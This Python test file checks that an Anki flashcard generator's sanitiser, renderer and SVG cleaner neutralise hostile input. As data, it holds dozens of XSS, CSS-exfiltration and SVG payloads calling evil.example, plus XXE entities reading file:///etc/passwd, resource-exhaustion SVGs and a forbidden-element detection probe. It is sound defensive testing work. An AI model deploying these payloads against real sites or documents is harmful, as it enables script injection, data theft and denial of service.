"""Attacks through the whole pipeline: markdown, package, the real Anki's import and rendering, a real Chromium.

None of them runs, none uses the network, and each is shown as the text that the author wrote; also after the learner
has opened the note in Anki's editor, which reads a field's HTML into a page and writes it back.
"""

from __future__ import annotations

import html
import re
import subprocess
import sys
from contextlib import contextmanager
from typing import TYPE_CHECKING, Any

import pytest
import reviewers
from click.testing import CliRunner
from vectors import IN_FORMULAS, LITERAL, VECTORS
from writing import bank, question

from ankigen.anki.apkg import read_package
from ankigen.anki.media import svg
from ankigen.cli import cli
from ankigen.markdown import sanitise

reviewers.skip_without_browser()

from anki_backend import Learner  # noqa: E402 - not everywhere

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

    from playwright.sync_api import Browser, Page

pytestmark = pytest.mark.slow

# Elements that no field may add to a page; the templates' own script is removed before.
_FORBIDDEN = """script, iframe, frame, object, embed, form, input, button, textarea, select, svg, math, style, link,
meta, base, audio, video, source, img, template, noscript, portal, marquee, applet, body > title, [style], [srcdoc]"""
_PROBE = f"""() => {{
  const bad = Array.from(document.querySelectorAll({_FORBIDDEN!r}), one => one.outerHTML);
  for (const one of document.querySelectorAll("body *")) {{
    for (const {{ name, value }} of one.attributes) {{
      if (/^on|^srcset$|^action$|^formaction$|^background$|^xlink/.test(name)) bad.push(one.outerHTML);
      if (name === "href" && !/^(https?:\\/\\/|mailto:)/.test(value)) bad.push(one.outerHTML);
    }}
  }}
  return bad;
}}""".replace("\\n", " ")
_TRIGGER = re.compile(r"\[(?:sound:|/?latex\]|/?\$\$?\]|/?anki:|\[type:)", re.IGNORECASE)


def attacked(i: int) -> tuple[str, str]:
    """Return the name and the text of question `i`, which has a vector in every place.

    Over all questions, each vector is in each place.
    """

    def at(place: int) -> str:
        return VECTORS[(i + place) % len(VECTORS)]

    line = [re.sub(r"\s*\n\s*", " ", at(place)) for place in range(20)]
    text = question(
        f"Q{i} {line[4]}",
        stem=f"S{i}: {at(0)}",
        options={"A": f"{line[0]}", "B": f"x\n  ```html\n  {line[1]}\n  ```", "C": f"`{line[2]}`"},
        topics=f"`Alpha`, `{line[5]}`",
        traps=f"`{line[6]}`",
        level=line[7],
        explanation=f"{at(0)}\n\n### {line[8]}\n\n```{line[9]}\n{at(0)}\n```",
        extra=f"{at(10)}\n\n### {line[11]}\n\n| {line[12]} | x |\n|---|---|\n| {line[13]} | `{line[14]}` |\n\n"
        f"### 端點\n\n| {line[15]} | 方法 | 端點 |\n|---|---|---|\n| {line[16]} | GET {line[17]} |"
        f" /api/{line[18]} |\n\n"
        f"## 官方文件\n\n- [{line[19]}](https://e.org/{i})\n- [t](https://e.org/{line[3]})\n",
    ).replace("Data Engineering / Operations", line[3])
    name = "".join(char for char in at(2) if char.isprintable() and char not in "/\\")[:80]
    return f"{i:04} {name}.md", text


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with reviewers.browser() as started:
        yield started


class Room:
    """A page that notices any attack."""

    def __init__(self, browser: Browser) -> None:
        self.page: Page = browser.new_page()
        self.asked: list[str] = []
        self.page.on("request", lambda request: self.asked.append(request.url))
        self.page.on("dialog", lambda dialog: (self.asked.append("dialog"), dialog.dismiss()))
        self.page.add_init_script("window.ran = 0; window.pwn = window.pycmd = () => { window.ran += 1; }")
        self.page.goto("about:blank")
        self.asked.clear()

    def show(self, content: str) -> None:
        """Show HTML, move the pointer over it, and give it time to act."""
        self.page.set_content(f"<!doctype html><body>{content}</body>")
        self.page.evaluate(
            """() => { for (const one of document.querySelectorAll("body *")) {
              for (const name of ["mouseover", "focus", "pointerenter"]) one.dispatchEvent(new Event(name));
            } for (const one of document.querySelectorAll("details")) one.open = true; }"""
        )
        self.page.wait_for_timeout(100)

    @property
    def ran(self) -> int:
        count: int = self.page.evaluate("window.ran")
        return count


@pytest.fixture
def room(browser: Browser) -> Iterator[Room]:
    made = Room(browser)
    yield made
    made.page.close()


@pytest.fixture(scope="module")
def package(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("attacked")
    bank(folder / "bank", dict(map(attacked, range(len(VECTORS)))))
    result = CliRunner().invoke(cli, ["build", str(folder / "bank"), "-o", str(folder / "out")], catch_exceptions=False)
    assert (folder / "out" / "bank.apkg").is_file(), result.stderr
    return folder / "out" / "bank.apkg"


def shown(learner: Learner) -> tuple[str, list[Any]]:
    """Return all sides of all cards, as the backend renders them, without the templates' script; and their sounds."""
    sides: list[str] = []
    played: list[Any] = []
    for card in learner.cards():
        output = card.render_output(reload=True)
        played += [*output.question_av_tags, *output.answer_av_tags]
        sides += (output.question_text, output.answer_text)
    scripts = [re.findall(r"<script>\n.*?</script>", side, re.DOTALL) for side in sides]
    assert {len(sources) for sources in scripts} == {1, 2}  # a back repeats its front
    assert len({script for sources in scripts for script in sources}) == 1
    return "\n".join(side.replace(sources[0], "") for side, sources in zip(sides, scripts, strict=True)), played


def assert_harmless(room: Room, sides: str, played: list[Any]) -> None:
    assert played == []
    assert not _TRIGGER.search(sides)
    assert "<img class=latex" not in sides
    for formula in re.findall(
        r"\\[(\[].*?\\[)\]]", re.sub(r"<(pre|code)\b.*?</\1>", "", sides, flags=re.DOTALL), re.DOTALL
    ):
        assert not re.search(r"\\(?:href|url|style|class|cssId|data|mmlToken|bbox|require|let|newcommand)\b", formula)
    room.show(sides)
    assert room.page.evaluate(_PROBE) == []
    assert (room.ran, room.asked) == (0, [])


def test_the_room_notices_an_attack(room: Room) -> None:
    room.show("<img src=x onerror=pwn()><img src=https://evil.example/x.png><b onmouseover=pwn()>x</b>")
    assert room.ran >= 1
    assert "https://evil.example/x.png" in room.asked
    assert len(room.page.evaluate(_PROBE)) == 4


def test_the_allow_list_alone_lets_nothing_run(room: Room) -> None:
    """The sanitiser is safe by itself, even if the renderer ever failed to show raw HTML as text."""
    room.show("".join(f"<div>{sanitise.clean(vector)}</div>" for vector in VECTORS))
    forbidden = " ".join(_FORBIDDEN.split()).replace(" img,", "").replace(" audio,", "")
    assert room.page.locator(forbidden).evaluate_all("all => all.map(one => one.outerHTML)") == []
    names = "all => all.flatMap(one => one.getAttributeNames())"
    assert set(room.page.locator("body *").evaluate_all(names)) == {"alt", "class", "href", "src"}
    schemes = set(room.page.locator("a").evaluate_all("all => all.map(one => one.protocol)"))
    assert schemes <= {":", "about:", "http:", "https:"}
    assert room.ran == 0


def test_there_are_enough() -> None:
    assert len(set(VECTORS)) == len(VECTORS) >= 300


def test_no_attack_runs_or_asks_or_is_lost(package: Path, tmp_path: Path, room: Room) -> None:
    assert len(read_package(package).notes) == len(VECTORS)
    with Learner(tmp_path / "learner") as learner:
        imported = learner.take(package)
        assert (imported.notes, imported.new) == (len(VECTORS), len(VECTORS))
        assert_harmless(room, *shown(learner))
        before = texts(room)
        assert_as_written(room)

        # Anki's editor: each field's HTML is put into a page, and what the page then has is saved.
        room.show("")
        numbers = learner.col.find_notes("")
        notes = [learner.col.get_note(number) for number in numbers]
        saved = room.page.evaluate(
            """all => all.map(fields => fields.map(field => {
              const editable = document.createElement("anki-editable");
              editable.innerHTML = field;
              return editable.innerHTML;
            }))""",
            [note.fields for note in notes],
        )
        for note, fields in zip(notes, saved, strict=True):
            note.fields = fields
        learner.col.update_notes(notes)
        assert_harmless(room, *shown(learner))
        assert texts(room) == before
        assert learner.col.fix_integrity()[1]
        assert list(learner.col.media.check().missing) == []


@pytest.mark.parametrize("live", [False, True], ids=["a file", "served"])
def test_no_attack_runs_or_asks_in_the_preview(tmp_path: Path, browser: Browser, *, live: bool) -> None:
    """Whatever a card of a page tries, no request leaves the page, and nothing but its own scripts runs."""
    files = dict(attacked(i) for i in range(0, len(VECTORS), 8))  # each vector is in two places or more
    for n, evil in enumerate(IN_FORMULAS):
        stem = f"F{n}: $\\text{{{evil}}}$ and $$\\mathrm{{a}}\\text{{{evil}}}$$"
        files[f"formula-{n}.md"] = question(f"F-{n}", stem=stem)
    bank(tmp_path / "bank", files)
    page = browser.new_page()
    asked: list[str] = []
    names: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    page.on("console", lambda message: asked.append(message.text))
    page.on("dialog", lambda dialog: (asked.append("dialog"), dialog.dismiss()))
    page.add_init_script("window.pwn = () => console.log('an attack runs')")
    with shown_preview(tmp_path / "bank", live=live) as address:
        page.goto(address)
        for _ in files:
            names.append(page.locator("#name").inner_text())
            page.keyboard.press("Space")
            page.wait_for_timeout(30)
            page.keyboard.press("ArrowRight")
        page.close()
    assert len(set(names)) == len(files)
    assert [url for url in asked if not url.startswith((address, "data:", "about:"))] == []


@contextmanager
def shown_preview(folder: Path, *, live: bool) -> Iterator[str]:
    """Yield the address of the preview of a bank, as a file or served."""
    command = [sys.executable, "-u", "-m", "ankigen", "preview", str(folder)]
    if not live:
        subprocess.run(command, check=False, capture_output=True)
        yield (folder / "apkg/preview.html").as_uri()
        return
    with subprocess.Popen(
        [*command, "--serve"], stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, encoding="utf-8"
    ) as process:
        assert process.stdout
        try:
            yield process.stdout.readline().split()[0]
        finally:
            process.kill()


def texts(room: Room) -> list[str]:
    shown_texts: list[str] = room.page.evaluate(
        "() => Array.from(document.querySelectorAll('.ankigen'), one => one.textContent.replace(/\\s+/g, ' '))"
    )
    return shown_texts


def assert_as_written(room: Room) -> None:
    """Every literal vector is shown in its stem, option and code; code also shows the others."""
    cards = room.page.evaluate(
        """() => Object.fromEntries(Array.from(document.querySelectorAll(".ankigen.back"), card => [
          parseInt(card.querySelector(".stem").textContent.trim().slice(1)),
          [".stem", ".option[data-label=A] .text", ".option[data-label=B] pre", ".more pre"].map(
            place => card.querySelector(place)?.textContent ?? "")]))"""
    )
    assert len(cards) == len(VECTORS)
    for i, vector in enumerate(VECTORS):
        stem, option, _, _ = cards[str(i)]
        if vector in LITERAL and "details" not in vector:  # to the readers, `<details>` is structure, not text
            assert squeezed(vector) in squeezed(stem), vector
            assert squeezed(vector) in squeezed(option), vector
        if "\n" not in vector and vector.isprintable() and "<!--" not in vector:
            code = cards[str((i - 1) % len(VECTORS))][2]
            assert vector == code, vector


def squeezed(text: str) -> str:
    """Return a text without control characters, with single spaces, and with its entities decoded."""
    return " ".join(re.sub(r"[\x00-\x08\x0b-\x1f\x7f]", "", html.unescape(html.unescape(text))).split())


# SVG pictures.

_HEAD = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 9 9"'
_HOSTILE = (
    "<script>pwn()</script>",
    "<script xlink:href='https://evil.example/x.js'/>",
    "<SCRIPT>pwn()</SCRIPT>",
    "<g onload='pwn()' onclick='pwn()'/>",
    "<rect width='9' height='9' onmouseover='pwn()'/>",
    "<foreignObject><body xmlns='http://www.w3.org/1999/xhtml'><script>pwn()</script></body></foreignObject>",
    "<foreignObject><iframe xmlns='http://www.w3.org/1999/xhtml' src='https://evil.example/x'/></foreignObject>",
    "<html:script xmlns:html='http://www.w3.org/1999/xhtml'>pwn()</html:script>",
    "<html:img xmlns:html='http://www.w3.org/1999/xhtml' src='x' onerror='pwn()'/>",
    "<h:iframe xmlns:h='http://www.w3.org/1999/xhtml' src='javascript:parent.pwn()'/>",
    "<image href='https://evil.example/x.png'/>",
    "<image xlink:href='https://evil.example/x.png' width='9' height='9'/>",
    "<use href='https://evil.example/x.svg#a'/>",
    "<use xlink:href='data:image/svg+xml,%3Csvg id=%22a%22 onload=%22pwn()%22/%3E#a'/>",
    "<a href='javascript:pwn()'><text y='5'>x</text></a>",
    "<a xlink:href='javascript:pwn()'><rect width='9' height='9'/></a>",
    "<animate attributeName='href' values='javascript:pwn()' begin='0s'/>",
    "<set attributeName='onmouseover' to='pwn()'/>",
    "<rect width='9' height='9'><animate onbegin='pwn()' attributeName='x' dur='1s'/></rect>",
    "<style>@import url(https://evil.example/x.css);</style>",
    "<style>rect{fill:url(https://evil.example/x.svg#a)}</style><rect width='9' height='9'/>",
    "<style>@im\\70ort 'https://evil.example/x.css';</style>",
    "<style>@font-face{font-family:x;src:url(//evil.example/x)}text{font-family:x}</style><text y='5'>x</text>",
    "<style>rect{background:u/**/rl(https://evil.example/x)} </style>",
    "<style>rect{fill:image-set('https://evil.example/x' 1x)}</style>",
    "<rect width='9' height='9' style='fill:url(https://evil.example/x.svg#a)'/>",
    "<rect width='9' height='9' fill='url(https://evil.example/x.svg#a)'/>",
    "<rect width='9' height='9' filter='url( \"https://evil.example/x.svg#a\")'/>",
    "<rect width='9' height='9' mask='url(//evil.example/x.svg#a)' cursor='url(//evil.example/x),auto'/>",
    "<filter id='f'><feImage href='https://evil.example/x.png'/></filter><rect width='9' height='9' filter='url(#f)'/>",
    "<linearGradient id='g' xlink:href='https://evil.example/x.svg#g'/>",
    "<style>@im<x/>port 'https://evil.example/x.css';</style>",
    "<style>@im<g/>port 'https://evil.example/x.css';</style>",
    "<style>svg{background-image:u<x/>rl(https://evil.example/x)}</style>",
    "<style>@im<!-- -->port 'https://evil.example/x.css';</style>",
    "<style>@charset '/*'; @import 'https://evil.example/x.css'; @charset '*/';</style>",
    "<style>a{font-family:'/*'} svg{background-image:url(https://evil.example/x)} b{font-family:'*/'}</style>",
    "<rect width='9' height='9' style=\"font-family:'/*';mask:url(https://evil.example/x#a);font-style:'*/'\"/>",
    "<style>svg{background-image:src('https://evil.example/x')}</style>",
    "<style>svg{background-image:image('https://evil.example/x')}</style>",
    "<style>svg{background-image:-webkit-cross-fade(linear-gradient(red,red), '//evil.example/x', 50%)}</style>",
    "<style><x>a</x>@im<x>b</x>port 'https://evil.example/x';</style>",
    "<style>@im</style><style>port 'https://evil.example/x';</style>",
    "<style><style>@im<x/>port 'https://evil.example/x';</style></style>",
    "<handler xmlns:ev='http://www.w3.org/2001/xml-events' ev:event='load'>pwn()</handler>",
    "<listener event='load' handler='#x' xmlns='http://www.w3.org/2001/xml-events'/>",
    "<?xml-stylesheet href='https://evil.example/x.css'?>",
    "<![CDATA[<script>pwn()</script>]]>",
    "<title><script>pwn()</script></title><desc><iframe src='javascript:pwn()'/></desc>",
    "<metadata><script>pwn()</script></metadata>",
    "<discard/><mpath href='https://evil.example/x'/><video src='https://evil.example/x'/>",
    "<tspan xml:base='https://evil.example/'><use href='#x'/></tspan>",
    "<textPath href='javascript:pwn()'>x</textPath>",
)


@pytest.mark.parametrize("body", _HOSTILE)
def test_a_hostile_svg_does_nothing_even_as_a_page_of_its_own(body: str, browser: Browser) -> None:
    """A card shows it as `<img>`, in which no script runs; to open the file itself is just as safe."""
    cleaned = svg.clean(f"<svg {_HEAD}>{body}<circle r='2'/></svg>".encode()).data
    assert b"<circle" in cleaned
    assert b"evil.example" not in cleaned
    page = browser.new_page()
    asked: list[str] = []
    page.route(
        "http://room.example/**",
        lambda route: route.fulfill(
            body=cleaned if route.request.url.endswith(".svg") else "<img src=picture.svg>",
            content_type="image/svg+xml" if route.request.url.endswith(".svg") else "text/html",
        ),
    )
    page.on("request", lambda request: asked.append(request.url))
    page.add_init_script("window.ran = 0; window.pwn = () => { window.ran += 1; }")
    for address in ("http://room.example/", "http://room.example/picture.svg"):
        page.goto(address)
        page.evaluate(
            """() => { for (const one of document.querySelectorAll("*")) {
              for (const name of ["load", "click", "mouseover"]) one.dispatchEvent(new Event(name)); } }"""
        )
        assert page.evaluate("window.ran") == 0
        assert not page.evaluate("document.querySelector('script, iframe, foreignObject, image, a, animate, set')")
    page.close()
    assert {url for url in asked if not url.startswith("http://room.example/")} == set()


_NEXT = "<use id='r{}' href='#r{}'/>"
_LONG = "M" + " 1 2" * 20_000
_CIRCLE = "<circle r='2'/>"
_MARKER = f"<marker id='m'>{_CIRCLE * 20}</marker>"
_ARROW = "<path d='M0 0H9V9' marker-end='url(#m)'/>"
_FILTERED = "<rect width='9' height='9' filter='url(#f)'/>"
_BLURRED = "<rect width='9' height='9' style='filter: drop-shadow(9px 9px 9px)'/>"


def repeated(reference: str) -> str:
    """Return seven groups, each with ten references to the one before: a few kilobytes that draw ten million shapes."""
    return "".join(f"<g id='r{n}'>{reference.format(n - 1) * 10}</g>" for n in range(1, 8)) + "<g id='r0'/>"


@pytest.mark.parametrize(
    "text",
    [
        f"<!DOCTYPE svg [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><svg {_HEAD}><text>&x;</text></svg>",
        f"<!DOCTYPE svg [<!ENTITY a 'aaaaaaaaaa'><!ENTITY b '&a;&a;&a;&a;'>]><svg {_HEAD}><text>&b;</text></svg>",
        f"<!DOCTYPE svg [<!ENTITY % x SYSTEM 'https://evil.example/x.dtd'> %x;]><svg {_HEAD}/>",
        f"<svg {_HEAD}><text>&undefined;</text></svg>",
        f"<svg {_HEAD}><g></svg>",
        "<html xmlns='http://www.w3.org/1999/xhtml'><svg/></html>",
        f"<?xml version='1.0' encoding='x-none'?><svg {_HEAD}/>",
        f"<svg {_HEAD}>{'<g>' * 5000}{'</g>' * 5000}</svg>",
        f"<svg {_HEAD}>{'<g>' * 100_000}",
        f"<svg {_HEAD}>" + repeated("<use href='#r{}'/>") + "</svg>",
        f"<svg {_HEAD}>" + repeated("<rect fill='url(#r{})'/>") + "</svg>",
        f"<svg {_HEAD}>" + repeated("<g style='mask:url( &quot;#r{}&quot;)'/>") + "</svg>",
        f"<svg {_HEAD}>{''.join(map(_NEXT.format, range(5000), range(1, 5001)))}</svg>",
        f"<svg {_HEAD}>{_MARKER}<path d='{_LONG}' marker-mid='url(#m)'/></svg>",
        f"<svg {_HEAD}>{_MARKER}<g marker-mid='url(#m)'><polyline points='{_LONG}'/></g></svg>",
        f"<svg {_HEAD}>{_MARKER}<path d='{_LONG}' style='marker: url(#m)'/></svg>",
        f"<svg {_HEAD}><style>path{{marker:url(#m)}}</style>{_MARKER}<path d='{_LONG}'/></svg>",
        f"<svg {_HEAD}><filter id='f'>{'<feGaussianBlur/>' * 300}</filter><rect filter='url(#f)'/></svg>",
        f"<svg {_HEAD}><filter id='f'><feGaussianBlur/></filter>{_FILTERED * 300}</svg>",
        f"<svg {_HEAD}><filter id='f'>{'<feDiffuseLighting/>' * 30}</filter>{_FILTERED}</svg>",
        f"<svg {_HEAD}><filter id='f'><feMorphology radius='5000'/></filter>{_FILTERED}</svg>",
        f"<svg {_HEAD}><style>rect{{filter:blur(9px)}}</style>{_FILTERED * 300}</svg>",
        f"<svg {_HEAD}>{_BLURRED * 300}</svg>",
        "",
    ],
)
def test_an_svg_with_entities_or_damage_is_refused(text: str) -> None:
    with pytest.raises(ValueError, match=r"."):
        svg.clean(text.encode())


def test_a_harmless_svg_keeps_its_look() -> None:
    drawn = (
        f"<svg {_HEAD}><style>@media (prefers-color-scheme: dark) {{ rect {{ fill: #fff }} }}</style>"
        "<defs><linearGradient id='g'><stop offset='1' stop-color='red'/></linearGradient></defs>"
        "<rect width='9' height='9' fill='url(#g)' style='stroke:url(#g)'/><use xlink:href='#g'/>"
        "<g id='a'><use href='#b'/></g><g id='b'><use href='#a'/></g>"  # a circle, which no viewer follows
        "<text x='1' y='2'>a &lt; b <tspan>c</tspan> d</text></svg>"
    )
    cleaned = svg.clean(drawn.encode())
    assert cleaned.removed == ()
    text = cleaned.data.decode()
    for part in ('fill="url(#g)"', 'href="#g"', "prefers-color-scheme", "a &lt; b <tspan>c</tspan> d", "<stop "):
        assert part in text
    assert svg.clean(cleaned.data) == cleaned


@pytest.mark.parametrize(
    "drawn",
    [
        f"<marker id='m'><path d='M0 0L9 9Z'/></marker>{_ARROW * 2000}",
        f"<path d='{_LONG}'/><marker id='m'>{_CIRCLE * 3}</marker>{_ARROW}",
        f"<filter id='f'><feOffset/><feGaussianBlur/><feMerge/></filter>{_FILTERED * 50}",
        "".join(f"<mask id='m{n}'><rect/></mask><rect mask='url(#m{n})'/>" for n in range(200)),
    ],
    ids=["arrows", "a long path", "shadows", "masks"],
)
def test_what_drawing_programs_write_is_not_too_much(drawn: str) -> None:
    assert svg.clean(f"<svg {_HEAD}>{drawn}</svg>".encode()).removed == ()
